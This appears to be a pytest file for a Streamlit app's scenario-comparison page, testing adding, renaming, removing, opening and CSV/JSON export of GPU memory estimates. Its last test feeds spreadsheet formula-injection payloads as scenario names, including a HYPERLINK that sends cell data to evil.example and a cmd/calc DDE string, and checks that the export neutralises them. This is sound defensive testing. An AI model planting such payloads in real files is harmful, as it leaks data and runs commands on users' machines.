"""The Compare page, driven through Streamlit's AppTest: add, rename, remove, open and export scenarios."""

import io
import json

import pandas as pd
import pytest
from app_helpers import assert_clean, gb, plain, start, texts
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

import estimator as est
from ui import links

SEVEN_B = est.ParamCount.from_billions(7)
TWO_SCENARIOS = {"p": "compare", "c1.p": "inference", "c1.seq": "8192", "c2.p": "finetune", "c2.row": "lora",
                 "c2.name": "LoRA 7B"}


def compare_table(at) -> pd.DataFrame:
    return at.dataframe[0].value


@pytest.fixture
def downloads(monkeypatch):
    """(file name, bytes) of every download the app prepares."""
    files = []
    original = MemoryMediaFileStorage.load_and_get_id

    def record(self, data, mimetype, kind, filename=None):
        files.append((filename, data))
        return original(self, data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    return files


def test_an_empty_comparison_says_how_to_add_scenarios():
    at = start(page="compare")
    assert at.title[0].value == "Compare scenarios"
    assert "Add to comparison" in at.info[0].value


def test_scenarios_added_on_the_estimate_pages_appear_side_by_side():
    at = start()
    at.button(key="inference.add").click().run()
    assert "Added to the comparison (1 of 6)" in at.toast[0].value
    at.switch_page("views/finetune.py").run()
    at.selectbox(key="finetune.technique").set_value("qlora-4bit").run()
    at.button(key="finetune.add").click().run()
    at.switch_page("views/compare.py").run()
    assert_clean(at)
    frame = compare_table(at)
    assert list(frame.columns) == ["7B · Inference (16-bit) · 2,048 tok × 1",
                                   "7B · QLoRA (4-bit) · b1 × 2,048 tok"]
    assert frame.loc["Total per GPU (GB)"].tolist() == ["18.8", "7.6"]
    assert frame.loc["GPUs needed (RTX 4090)"].tolist() == ["1 x RTX 4090", "1 x RTX 4090"]
    assert len(at.get("plotly_chart")) == 1
    assert at.query_params == {"v": "1", "p": "compare", "c1.p": "inference", "c2.p": "finetune",
                               "c2.row": "qlora-4bit", "c2.gc": "auto"}


def test_a_comparison_link_recomputes_every_scenario():
    at = start(TWO_SCENARIOS)
    frame = compare_table(at)
    assert list(frame.columns) == ["7B · Inference (16-bit) · 8,192 tok × 1", "LoRA 7B"]
    inference = est.inference_table(est.InferenceScenario(SEVEN_B, seq_len=8192))[0]
    lora = est.finetune_table(est.FinetuneScenario(SEVEN_B))[1]
    assert frame.loc["Total per GPU (GB)"].tolist() == [f"{t:.1f}" for t in gb([inference, lora])]


def test_renaming_a_scenario_renames_its_column_and_link():
    at = start(TWO_SCENARIOS)
    at.text_input(key="compare.name.1").input("Long context").run()
    assert list(compare_table(at).columns) == ["Long context", "LoRA 7B"]
    assert at.query_params["c1.name"] == "Long context"


def test_removing_scenarios():
    at = start(TWO_SCENARIOS)
    at.button(key="compare.remove.1").click().run()
    assert list(compare_table(at).columns) == ["LoRA 7B"]
    assert at.query_params == {"v": "1", "p": "compare", "c1.p": "finetune", "c1.row": "lora", "c1.name": "LoRA 7B",
                               "c1.gc": "auto"}
    next(b for b in at.button if b.label == "Remove all").click().run()
    assert not at.dataframe and "Add to comparison" in at.info[0].value


def test_opening_a_scenario_loads_its_inputs_on_its_page():
    at = start(TWO_SCENARIOS)
    at.button(key="compare.open.1").click().run()
    assert_clean(at)
    assert at.title[0].value == "Inference memory" and at.number_input(key="inference.seq_len").value == 8192


def test_the_comparison_holds_at_most_six_scenarios():
    at = start()
    for _ in range(links.MAX_COMPARE):
        at.button(key="inference.add").click().run()
    assert at.button(key="inference.add").disabled
    at.switch_page("views/compare.py").run()
    assert len(compare_table(at).columns) == links.MAX_COMPARE


def test_the_target_gpu_changes_the_fit_row():
    at = start(TWO_SCENARIOS)
    at.selectbox(key="compare.gpu").set_value("t4").run()
    assert compare_table(at).loc["GPUs needed (T4)"].tolist()[0] == "2 x T4"


def test_exports_hold_the_table_and_the_scenarios_in_bytes(downloads):
    at = start(TWO_SCENARIOS)
    assert_clean(at)
    files = dict(downloads)
    csv = pd.read_csv(io.BytesIO(files["comparison.csv"]), index_col=0, dtype=str)
    assert csv.equals(compare_table(at))
    records = json.loads(files["comparison.json"])
    assert [r["name"] for r in records] == ["7B · Inference (16-bit) · 8,192 tok × 1", "LoRA 7B"]
    assert records[1]["total_bytes"] == est.finetune_table(est.FinetuneScenario(SEVEN_B))[1].total
    assert records[1]["link_params"] == {"v": "1", "p": "finetune", "row": "lora", "gc": "auto"}
    assert records[0]["fit"]["gpu"] == "rtx-4090" and "KV cache" not in records[0]["components"]
    assert records[0]["components"]["kv_cache"] > 0


def test_scenario_names_are_shown_literally():
    at = start({**TWO_SCENARIOS, "c2.name": "**bold** [x](https://e.example)"})
    assert_clean(at)
    assert "**bold** [x](https://e.example)" in compare_table(at).columns
    assert "[x](https" not in texts(at).replace("**bold** [x](https://e.example)", "")


def test_add_to_comparison_refuses_inputs_that_changed_to_an_empty_config():
    """The race an attacker found: "config.json" clicked, then "Add to comparison" before the page reran. The
    click's callback sees src=config with no config yet; it must add nothing and say why."""
    at = start()
    at.session_state["_pages"]["inference"]["src"] = "config"  # what the config.json radio set, not yet drawn
    at.button(key="inference.add").click().run()
    assert "Not added: config.json is empty" in plain(at.toast[0].value)
    assert at.session_state["_compare"] == []


def test_an_invalid_compared_scenario_gets_a_message_and_can_still_be_removed():
    at = start(TWO_SCENARIOS)
    broken = dict(at.session_state["_compare"][0].state, src="config", cfg="")
    at.session_state["_compare"][0].state = broken  # as a scenario added by the old code was
    at.run()
    assert not at.exception
    assert "This scenario cannot be estimated: config.json is empty" in plain(at.error[0].value)
    assert list(compare_table(at).columns) == ["LoRA 7B"]  # the valid one is still compared
    at.button(key="compare.remove.1").click().run()
    assert_clean(at)
    assert list(compare_table(at).columns) == ["LoRA 7B"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+1+2", "-2+3"])
def test_the_csv_download_neutralises_names_a_spreadsheet_would_run(downloads, name):
    """A scenario name set through a link (c2.name) reaches the CSV as text a spreadsheet will not evaluate;
    the page itself still shows it as typed."""
    at = start({**TWO_SCENARIOS, "c2.name": name})
    assert list(compare_table(at).columns)[1] == name
    csv = pd.read_csv(io.BytesIO(dict(downloads)["comparison.csv"]), index_col=0, dtype=str)
    assert list(csv.columns)[1] == "'" + name
